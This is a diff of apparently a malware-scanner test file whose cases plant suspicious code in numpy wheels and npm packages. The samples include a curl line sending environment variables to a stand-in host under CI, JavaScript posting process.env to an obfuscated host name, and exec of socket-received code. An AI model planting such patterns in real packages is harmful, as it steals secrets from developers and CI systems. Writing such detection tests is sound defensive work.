@@ -984,7 +984,7 @@ on_npm("npm, program under the name of another", "package.json", manifest(lambda
 on_numpy("wheel, object that starts a program when it is made", "linux", later("import subprocess\nclass _Warm:\n    def __init__(self):\n        subprocess.Popen(['true'])\n_warm = _Warm()"), member="numpy/version.py")
 on_numpy("wheel, library of its own that a module loads", "linux", later("import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), '_warm.so'))"), {"numpy/_warm.so": open("/bin/true", "rb").read()}, member="numpy/version.py")
 on_numpy("wheel, function that runs what a socket brings", "linux", later("def _check(s):\n    exec(s.recv(65536).decode(), {})"), member="numpy/version.py")
-on_numpy("Mach-O, initialiser outside of the code", "macos", macho_initial)
+on_numpy("Mach-O, initialiser outside of the code", "macos", macho_initial, member="numpy/linalg/_umath_linalg.cpython-312-darwin.so")
 on_numpy("PE, code behind the last function", "windows", pe_behind)
 on_npm("npm, script of a shell that sends what it finds", "bin/extra", None, {"package/bin/extra": b'#!/bin/bash\n[ -n "$CI" ] && curl -s -d "$(env)" https://collect.countersign-harmless.com/v2\n'})
 on_npm("npm, environment for a host in pieces", "lib/main.js", later("function refresh() { require('ht' + 'tps').get({ host: ['rates', 'countersign-harmless', 'com'].join('.'), path: '/' + JSON.stringify(process.env) }) }"))
